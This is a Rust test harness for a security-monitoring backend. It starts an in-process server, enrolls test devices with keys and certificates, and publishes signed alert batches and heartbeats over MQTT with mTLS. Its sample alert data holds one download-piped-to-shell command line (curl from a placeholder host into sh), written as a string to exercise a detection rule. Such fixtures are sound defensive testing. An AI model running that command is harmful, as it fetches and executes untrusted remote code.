//! Shared harness for the ingest and external tests and the benchmarks: an
//! in-process backend, devices enrolled through the real Enroller, and
//! rumqttc publishers over mTLS.
#![allow(
    dead_code,
    clippy::unwrap_used,
    clippy::panic,
    clippy::manual_let_else,
    clippy::let_and_return,
    reason = "test harness"
)]

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use picket_api::Fleet as _;
use picket_backend::config::Config;
use picket_backend::Started;
use picket_proto::ed25519_dalek::SigningKey;
use picket_proto::topic::{self, Channel};
use picket_proto::{
    encode_frame_compressed_to_vec, encode_frame_to_vec, heapless, AlertBatch, AlertId, BoundedStr,
    DeviceId, EnrollRequest, EnrollResponse, Event, Frame, Heartbeat, Level, Message, ProcessEvent,
    TechniqueId,
};
use rumqttc::{AsyncClient, Event as MqttEvent, MqttOptions, Packet, QoS, Transport};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio::sync::{oneshot, watch};

/// A backend running in this process.
pub struct Backend {
    pub started: Started,
    pub shutdown: watch::Sender<bool>,
    pub task: tokio::task::JoinHandle<Result<(), picket_backend::BackendError>>,
    pub dir: tempfile::TempDir,
}

impl Backend {
    pub async fn start(tweak: impl FnOnce(&mut Config)) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut config = Config::ephemeral(dir.path());
        tweak(&mut config);
        Self::start_with(dir, config).await
    }

    pub async fn start_with(dir: tempfile::TempDir, config: Config) -> Self {
        let (shutdown, rx) = watch::channel(false);
        let (tx, started) = oneshot::channel();
        let task = tokio::spawn(picket_backend::run_with(config, rx, Some(tx)));
        let started = match started.await {
            Ok(s) => s,
            Err(_) => panic!("backend failed to start: {:?}", task.await),
        };
        let b = Self {
            started,
            shutdown,
            task,
            dir,
        };
        wait_for("ingest subscribed", Duration::from_secs(10), || {
            b.started.fleet.ready()
        })
        .await;
        b
    }

    pub fn metrics(&self) -> &picket_backend::ingest::IngestMetrics {
        self.started.fleet.ingest_metrics()
    }

    /// Enrolls a new device through the Enroller (a token from the store).
    pub async fn enroll(&self, seed: u8) -> TestDevice {
        self.enroll_key(SigningKey::from_bytes(&[seed; 32])).await
    }

    /// Enrolls the device of `key`.
    pub async fn enroll_key(&self, key: SigningKey) -> TestDevice {
        let id = DeviceId::from_public_key(&key.verifying_key());
        let token = format!("token-{id}");
        let now = picket_backend::ingest::now_ms();
        self.started
            .store
            .create_token(
                &picket_store::token_hash(&token),
                "test",
                "test",
                now,
                now + 3_600_000,
            )
            .await
            .unwrap();
        let request = Message::EnrollRequest(EnrollRequest {
            token: BoundedStr::new(&token).unwrap(),
            public_key: key.verifying_key().to_bytes(),
            csr_der: None,
            hostname: BoundedStr::new("gw").unwrap(),
            agent_version: BoundedStr::new("0.1.0").unwrap(),
        });
        let frame = encode_frame_to_vec(&request, id, &key).unwrap();
        let response = self.started.fleet.enroll(&frame).await;
        let command_key = picket_proto::ed25519_dalek::VerifyingKey::from_bytes(
            &self.started.fleet.command_public_key(),
        )
        .unwrap();
        let opened = Frame::decode_exact(&response)
            .unwrap()
            .open(&command_key)
            .unwrap();
        let Message::EnrollResponse(EnrollResponse::Accepted {
            certificate_der,
            ca_certificate_der,
        }) = opened
        else {
            panic!("enrollment refused: {opened:?}");
        };
        TestDevice {
            key,
            id,
            cert: CertificateDer::from(certificate_der.as_bytes().to_vec()),
            ca: CertificateDer::from(ca_certificate_der.as_bytes().to_vec()),
        }
    }
}

impl Drop for Backend {
    fn drop(&mut self) {
        let _ = self.shutdown.send(true);
    }
}

/// An enrolled device: its key and certificate.
#[derive(Clone)]
pub struct TestDevice {
    pub key: SigningKey,
    pub id: DeviceId,
    pub cert: CertificateDer<'static>,
    pub ca: CertificateDer<'static>,
}

const ED25519_PKCS8_PREFIX: [u8; 16] = [
    0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20,
];

impl TestDevice {
    pub fn tls(&self) -> Arc<rustls::ClientConfig> {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(self.ca.clone()).unwrap();
        let mut pkcs8 = ED25519_PKCS8_PREFIX.to_vec();
        pkcs8.extend_from_slice(self.key.as_bytes());
        let key = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pkcs8));
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        Arc::new(
            rustls::ClientConfig::builder_with_provider(provider)
                .with_protocol_versions(&[&rustls::version::TLS13])
                .unwrap()
                .with_root_certificates(roots)
                .with_client_auth_cert(vec![self.cert.clone()], key)
                .unwrap(),
        )
    }

    pub fn topic(&self, channel: Channel) -> String {
        topic::topic(self.id, channel).to_string()
    }

    /// A signed, compressed batch of `n` alerts starting at `seq`.
    pub fn batch(&self, seq: u64, n: usize) -> Vec<u8> {
        batch_for(self.id, &self.key, seq, n)
    }

    pub fn heartbeat(&self, seq: u64) -> Vec<u8> {
        heartbeat_frame(self.id, &self.key, seq)
    }

    /// Connects over mTLS to `addr`.
    pub async fn connect(&self, addr: std::net::SocketAddr) -> Publisher {
        Publisher::connect(&format!("dev-{}", self.id), addr, Some(self.tls())).await
    }
}

pub fn alert_id(id: DeviceId, seq: u64) -> AlertId {
    let mut b = [0u8; 16];
    b[..8].copy_from_slice(&id.0[..8]);
    b[8..].copy_from_slice(&seq.to_be_bytes());
    AlertId(b)
}

pub fn batch_for(id: DeviceId, key: &SigningKey, seq: u64, n: usize) -> Vec<u8> {
    let cmd = format!("/bin/sh -c 'curl http://example.invalid/x | sh' # {seq}");
    let alerts: Vec<picket_proto::Alert<'_>> = (0..n as u64)
        .map(|i| picket_proto::Alert {
            id: alert_id(id, seq + i),
            seq: seq + i,
            timestamp_ms: 1_700_000_000_000 + seq + i,
            level: Level::High,
            rule_id: BoundedStr::new("7a3c1b2e-0000-4000-8000-000000000001").unwrap(),
            rule_title: BoundedStr::new("Download piped to shell").unwrap(),
            techniques: heapless::Vec::from_slice(&[TechniqueId::new(1059, 4).unwrap()]).unwrap(),
            event: Event::Process(ProcessEvent {
                pid: 4242,
                ppid: 1,
                uid: 0,
                gid: 0,
                image: BoundedStr::new("/bin/sh").unwrap(),
                command_line: BoundedStr::truncated(&cmd),
                parent_image: Some(BoundedStr::new("/usr/sbin/sshd").unwrap()),
                parent_command_line: None,
                cwd: Some(BoundedStr::new("/root").unwrap()),
                user: Some(BoundedStr::new("root").unwrap()),
                extra: heapless::Vec::from_slice(&[picket_proto::Field {
                    key: BoundedStr::new("rule_author").unwrap(),
                    value: BoundedStr::new("Picket tests").unwrap(),
                }])
                .unwrap(),
            }),
        })
        .collect();
    let batch = AlertBatch::new(&alerts).unwrap();
    let message = Message::AlertBatch(batch);
    let frame = encode_frame_compressed_to_vec(&message, id, key, 6).unwrap();
    frame
}

/// Heartbeat `seq` of one agent run: sent at 1,700,000,000,000 + `seq` s,
/// uptime 60 + `seq` s.
pub fn heartbeat_frame(id: DeviceId, key: &SigningKey, seq: u64) -> Vec<u8> {
    heartbeat_frame_at(id, key, seq, 1_700_000_000_000 + seq * 1_000, 60 + seq)
}

/// A heartbeat with the given sequence number, device time and uptime.
pub fn heartbeat_frame_at(
    id: DeviceId,
    key: &SigningKey,
    seq: u64,
    sent_at_ms: u64,
    uptime_secs: u64,
) -> Vec<u8> {
    let hb = Message::Heartbeat(Heartbeat {
        seq,
        sent_at_ms,
        uptime_secs,
        agent_version: BoundedStr::new("0.1.0").unwrap(),
        protocol_version: picket_proto::PROTOCOL_VERSION,
        rule_bundle_version: Some(3),
        spool_depth: 7,
        spool_bytes: 700,
        spool_evictions_total: 0,
        lost_kernel_records_total: 0,
        modules: heapless::Vec::new(),
        cpu_permille: 12,
        rss_bytes: 24 << 20,
    });
    encode_frame_to_vec(&hb, id, key).unwrap()
}

/// An MQTT client whose event loop runs in a task, counting PUBACKs.
pub struct Publisher {
    pub client: AsyncClient,
    pub acked: Arc<AtomicU64>,
    pub connected: Arc<AtomicU64>,
    pub errors: Arc<AtomicU64>,
    pub task: tokio::task::JoinHandle<()>,
}

impl Publisher {
    pub async fn connect(
        client_id: &str,
        addr: std::net::SocketAddr,
        tls: Option<Arc<rustls::ClientConfig>>,
    ) -> Self {
        let p = Self::start(client_id, addr, tls, 64);
        wait_for("mqtt connected", Duration::from_secs(10), || {
            p.connected.load(Ordering::Relaxed) > 0
        })
        .await;
        p
    }

    /// Starts without waiting for the CONNACK.
    pub fn start(
        client_id: &str,
        addr: std::net::SocketAddr,
        tls: Option<Arc<rustls::ClientConfig>>,
        inflight: u16,
    ) -> Self {
        let mut o = MqttOptions::new(client_id, addr.ip().to_string(), addr.port());
        o.set_keep_alive(Duration::from_secs(60))
            .set_max_packet_size(1 << 20, 1 << 20)
            .set_inflight(inflight)
            .set_clean_session(true);
        if let Some(tls) = tls {
            o.set_transport(Transport::tls_with_config(
                rumqttc::TlsConfiguration::Rustls(tls),
            ));
        }
        let (client, mut ev) = AsyncClient::new(o, 256);
        let acked = Arc::new(AtomicU64::new(0));
        let connected = Arc::new(AtomicU64::new(0));
        let errors = Arc::new(AtomicU64::new(0));
        let (a, c, e) = (acked.clone(), connected.clone(), errors.clone());
        let task = tokio::spawn(async move {
            loop {
                match ev.poll().await {
                    Ok(MqttEvent::Incoming(Packet::PubAck(_))) => {
                        a.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(MqttEvent::Incoming(Packet::ConnAck(_))) => {
                        c.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(_) => {}
                    Err(_) => {
                        e.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                }
            }
        });
        Self {
            client,
            acked,
            connected,
            errors,
            task,
        }
    }

    pub async fn publish(&self, topic: &str, qos: QoS, payload: Vec<u8>) {
        self.client
            .publish(topic, qos, false, payload)
            .await
            .unwrap();
    }
}

impl Drop for Publisher {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// Waits for `cond` with a deadline.
pub async fn wait_for(what: &str, timeout: Duration, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + timeout;
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// Async condition version of [`wait_for`].
pub async fn wait_for_async<F, Fut>(what: &str, timeout: Duration, mut cond: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let deadline = Instant::now() + timeout;
    while !cond().await {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

pub async fn alert_count(started: &Started) -> u64 {
    started.store.stats().await.unwrap().alerts
}
